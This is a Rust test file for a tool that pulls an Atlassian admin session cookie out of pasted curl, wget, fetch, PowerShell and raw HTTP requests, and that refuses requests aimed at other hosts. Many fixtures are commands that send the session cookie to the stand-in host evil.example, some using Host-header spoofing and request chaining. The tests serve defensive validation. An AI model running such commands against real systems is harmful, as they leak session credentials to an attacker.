//! The cookie belongs to its own request, which goes to one host.

use atlctl_signin::capture::{CaptureError, Place};

use crate::{filled, found, read_all, token};

/// The cookie is sent to the portal.
pub const READ: [&str; 6] = [
    "curl https://evil.example -b 'cloud.session.token=@O@' --next @URL@ -b '@C@'",
    "curl https://evil.example @URL@ -b '@C@'",
    "curl @URL@ --resolve admin.atlassian.com:443:10.0.0.1 -b '@C@'",
    "curl -x http://proxy.example:8080 @URL@ -b '@C@'",
    "curl @URL@ -b '@C@' --next https://evil.example",
    "curl @URL@ -H 'Host: admin.atlassian.com' -b '@C@'",
];

#[test]
fn a_cookie_that_the_portal_is_sent_is_taken() {
    read_all(&READ, None);
}

#[test]
fn a_cookie_of_another_request_or_host_is_refused() {
    let token = token("ann", -60, 3600);
    let without = CaptureError::NoCookie {
        place: Place::Request("admin.atlassian.com"),
    };
    for (text, error) in [
        ("curl https://evil.example -b '@C@' --next @URL@", &without),
        (
            "curl -b '@C@' https://evil.example -: @URL@ -b 'a=1'",
            &without,
        ),
        (
            "curl https://evil.example -H 'Cookie: @C@' --next --url @URL@",
            &without,
        ),
        (
            "curl @URL@ -H 'Host: evil.example' -b '@C@'",
            &CaptureError::OtherHost,
        ),
        (
            "curl @URL@ -H ':authority: evil.example' -b '@C@'",
            &CaptureError::OtherHost,
        ),
        (
            "curl https://evil.example -H 'Host: admin.atlassian.com' -b '@C@'",
            &CaptureError::OtherHost,
        ),
        (
            "curl https://10.0.0.1/x -H 'Host: admin.atlassian.com' -b '@C@'",
            &CaptureError::OtherHost,
        ),
        (
            "curl 'https://{evil.example,admin.atlassian.com}/x' -b '@C@'",
            &CaptureError::OtherHost,
        ),
        (
            "curlie @URL@ host:evil.example 'cookie:@C@'",
            &CaptureError::OtherHost,
        ),
        (
            "wget --header='Host: evil.example' --header='Cookie: @C@' @URL@",
            &CaptureError::OtherHost,
        ),
        (
            "http @URL@ Host:evil.example 'Cookie:@C@'",
            &CaptureError::OtherHost,
        ),
        (
            r#"fetch("@URL@", {headers: {host: "evil.example", cookie: "@C@"}})"#,
            &CaptureError::OtherHost,
        ),
        (
            "irm '@URL@' -Headers @{Host='evil.example'; Cookie='@C@'}",
            &CaptureError::OtherHost,
        ),
        (
            "$h.Add('Host', 'evil.example')\n$h.Add('Cookie', '@C@')\nirm '@URL@' -Headers $h",
            &CaptureError::OtherHost,
        ),
        (
            r#"{"log":{"entries":[{"request":{"url":"@URL@","headers":[{"name":"Host","value":"evil.example"},{"name":"Cookie","value":"@C@"}]}}]}}"#,
            &CaptureError::OtherHost,
        ),
        (
            r#"{"url":"@URL@","headers":{"host":"evil.example","cookie":"@C@"}}"#,
            &CaptureError::OtherHost,
        ),
        (
            "GET @URL@ HTTP/1.1\nHost: evil.example\nCookie: @C@",
            &CaptureError::OtherHost,
        ),
        (
            "requests.get('@URL@', headers={'Host': 'evil.example', 'Cookie': '@C@'})",
            &CaptureError::SeveralHosts,
        ),
    ] {
        let text = filled(text, &token);
        let found = found(&text).unwrap_err();
        assert_eq!(&found, error, "{text}");
        let said = format!("{found} {found:?} {}", found.hint());
        assert!(
            !said.contains("evil") && !said.contains(&token[..8]),
            "{said}"
        );
    }
    // A host of the portal's own, an empty one, and none of a request's.
    for text in [
        "curl @URL@ -H 'Host: ADMIN.atlassian.com:443' -b '@C@'",
        "curl @URL@ -H 'Host:' -b '@C@'",
        "curl @URL@ -H 'X-Host: evil.example' -H 'Referer: https://evil.example' -b '@C@'",
    ] {
        let found = found(&filled(text, &token)).map(|(_, token)| token);
        assert_eq!(found, Ok(token.clone()), "{text}");
    }
}
